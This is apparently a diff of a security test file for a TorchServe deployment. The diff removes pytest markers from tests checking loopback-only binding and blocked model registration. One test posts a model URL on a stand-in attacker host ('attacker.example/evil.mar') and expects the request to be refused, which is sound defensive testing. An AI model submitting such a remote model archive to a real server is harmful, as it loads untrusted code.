@@ -7,7 +7,6 @@ import re
 from pathlib import Path
 
 import psutil
-import pytest
 import requests
 
 from serving.settings import MODEL_NAME, REPO_ROOT, TORCHSERVE_CONFIG
@@ -25,7 +24,6 @@ def test_every_torchserve_api_is_configured_on_loopback():
         assert PROPERTIES[key] == "127.0.0.1", key
 
 
-@pytest.mark.torchserve
 def test_torchserve_listens_on_loopback_only(torchserve):
     java = psutil.Process(running_pid(torchserve))
     listening = [c.laddr for c in java.net_connections(kind="inet") if c.status == psutil.CONN_LISTEN]
@@ -50,7 +48,6 @@ def test_model_registration_api_is_off_and_urls_are_restricted():
         assert not re.fullmatch(allowed, url), url
 
 
-@pytest.mark.torchserve
 def test_registering_a_model_by_url_is_refused(torchserve):
     management = torchserve.address("management")
     response = requests.post(f"{management}/models", params={"url": "https://attacker.example/evil.mar"},
